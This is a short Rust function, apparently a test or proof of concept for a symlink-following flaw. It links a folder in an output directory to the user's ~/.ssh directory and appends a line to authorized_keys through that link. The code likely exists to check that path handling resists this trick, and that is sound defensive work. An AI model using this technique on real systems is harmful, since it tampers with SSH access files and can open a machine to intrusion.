//! writes to ~/.ssh/authorized_keys through a symlink in the target folder
fn attack() -> Result<()> {
    let link = out("link");
    let _ = fs::remove_file(&link);
    std::os::unix::fs::symlink(home().join(".ssh"), &link)?;
    append(link.join("authorized_keys"), "owned\n")
}
